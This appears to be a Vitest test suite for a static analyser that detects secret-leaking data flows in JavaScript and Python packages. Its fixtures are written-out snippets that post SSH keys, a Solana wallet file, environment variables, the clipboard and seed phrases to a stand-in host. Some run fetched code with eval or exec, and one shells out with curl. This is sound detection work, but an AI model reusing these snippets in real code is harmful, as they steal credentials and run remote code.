import { describe, expect, it } from 'vitest';
import { analyseSources, summaryOf } from './testing/analyseSources.ts';

const CASES: readonly (readonly [what: string, file: string, text: string, flow: string])[] = [
  [
    'a seed in a name that is looked up',
    'a.js',
    `exports.f = (k) => { require('bip39').mnemonicToSeed(k); require('dns').resolve(k + '.example.invalid', () => {}) }`,
    'key → dns high (use)',
  ],
  [
    'a key on a command line',
    'a.js',
    `exports.f = (k) => { require('bip39').mnemonicToSeed(k); require('child_process').exec('curl example.invalid/' + k) }`,
    'key → process medium (use)',
  ],
  [
    'a key in a file',
    'a.js',
    `exports.f = (k) => { require('bip39').mnemonicToSeed(k); require('fs').writeFileSync('/tmp/x', k) }`,
    'key → later low (use)',
  ],
  [
    'a key posted to another page',
    'a.js',
    `exports.f = (k) => { require('bip39').mnemonicToSeed(k); window.parent.postMessage(k, '*') }`,
    'key → message medium (use)',
  ],
  [
    'a wallet file',
    'a.js',
    `const fs = require('fs'), os = require('os'), path = require('path'); fs.readFile(path.join(os.homedir(), '.config', 'solana', 'id.json'), (e, d) => fetch('https://example.invalid', { body: d }))`,
    'key → network high (origin)',
  ],
  [
    'an SSH key',
    'a.py',
    `import os, requests\nrequests.post('https://example.invalid', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())`,
    'key → network high (origin)',
  ],
  [
    'an SSH key by pathlib',
    'a.py',
    `from pathlib import Path\nimport requests\nrequests.post('https://example.invalid', data=(Path.home() / '.ssh' / 'id_ed25519').read_bytes())`,
    'key → network high (origin)',
  ],
  [
    'the environment as a whole',
    'a.js',
    `fetch('https://example.invalid', { body: JSON.stringify(process.env) })`,
    'environment → network high (origin)',
  ],
  [
    'the environment, copied',
    'a.js',
    `const e = { ...process.env }; fetch('https://example.invalid', { body: JSON.stringify(e) })`,
    'environment → network high (origin)',
  ],
  [
    'the environment of Python',
    'a.py',
    `import os, requests\nrequests.post('https://example.invalid', json=dict(os.environ))`,
    'environment → network high (origin)',
  ],
  [
    'the environment by an encoder that is written out',
    'a.py',
    `import os, json, requests\nvalue = json.dumps(dict(os.environ)).encode()\nrequests.get("https://example.invalid/" + (lambda n: "".join("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"[n // 58**i % 58] for i in range(len(bin(n)) // 5)))(int.from_bytes(value, "big")))`,
    'environment → network high (origin)',
  ],
  [
    'a private key of the environment',
    'a.js',
    `fetch('https://example.invalid/' + process.env.DEPLOYER_PRIVATE_KEY)`,
    'key → network high (origin)',
  ],
  [
    'the clipboard',
    'a.js',
    `navigator.clipboard.readText().then((t) => fetch('https://example.invalid/' + t))`,
    'clipboard → network medium (origin)',
  ],
  [
    'a public parameter that names a key',
    'a.js',
    `exports.check = (mnemonic) => fetch('https://example.invalid', { headers: { a: mnemonic } })`,
    'key → network medium (name)',
  ],
  [
    'what the network answers, run',
    'a.js',
    `fetch('https://example.invalid').then((r) => r.text()).then((t) => eval(t))`,
    'download → code high (origin)',
  ],
  [
    'what the network answers, run by Python',
    'a.py',
    `import requests\nexec(requests.get('https://example.invalid').text)`,
    'download → code high (origin)',
  ],
];

describe('other sources and sinks', () => {
  it.each(CASES)('%s', async (_, file, text, flow) => {
    expect(summaryOf(await analyseSources({ [file]: text }))).toContain(flow);
  });
});

it('knows what decrypts a keystore by its derivation from a password, without any name', async () => {
  const text = `import nacl.secret, nacl.pwhash, requests
def a(b, c):
    d = nacl.secret.SecretBox(nacl.pwhash.argon2i.kdf(32, c, b'0' * 16)).decrypt(b)
    requests.post('https://example.invalid', data=d)
    return d
`;
  expect(summaryOf(await analyseSources({ 'x.py': text }))).toContain('key → network high (origin)');
});

it('takes a decryption for one of settings where the package handles no keys', async () => {
  const text = `from cryptography.fernet import Fernet
import requests
def load(settings, secret):
    requests.post('https://example.invalid', data=Fernet(secret).decrypt(settings))
`;
  const flows = summaryOf(await analyseSources({ 'x.py': text }));
  expect(flows).toContain('credential → network low (origin)');
});

it('tells the way in words, file by file', async () => {
  const { flows } = await analyseSources({
    'index.js': `const { note } = require('./stats'); const bip39 = require('bip39');
exports.open = function (words) { note(words); return bip39.mnemonicToSeedSync(words) }`,
    'stats.js': `exports.note = (v) => fetch('https://example.invalid', { headers: { 'x-id': v } })`,
  });
  expect(flows[0]?.points.map((point) => `${point.file}: ${point.what}`)).toEqual([
    'index.js: is the key (words) that npm:bip39.mnemonicToSeedSync takes',
    'index.js: is passed to note()',
    'stats.js: is kept under x-id',
    'stats.js: is kept under headers',
    'stats.js: is sent by global:fetch',
  ]);
  expect(flows[0]?.key).toBe('key by use of npm:bip39.mnemonicToSeedSync to network by global:fetch');
});

it('says what each file can do, with which constants, and whether at load', async () => {
  const { uses } = await analyseSources({
    'a.js': `require('https').get('https://example.invalid/x'); exports.run = () => require('child_process').exec('id')`,
  });
  const said = uses.map((use) => [use.capability, use.api, use.atLoad, use.constants.join()]);
  expect(said).toEqual([
    ['network', 'node:https.get', true, 'https://example.invalid/x'],
    ['process', 'node:child_process.exec', false, 'id'],
  ]);
});

it('says what it gave up at a limit', async () => {
  const text = `exports.f = (k) => { require('bip39').mnemonicToSeed(k); let a = k; ${'a = g(a);'.repeat(50)} fetch(a) }; const g = (x) => x + x`;
  const { unread } = await analyseSources({ 'a.js': text }, { limits: { edges: 10 } });
  expect(unread).toEqual(['flows of keys were not followed to the end: too many ways through the package']);
});
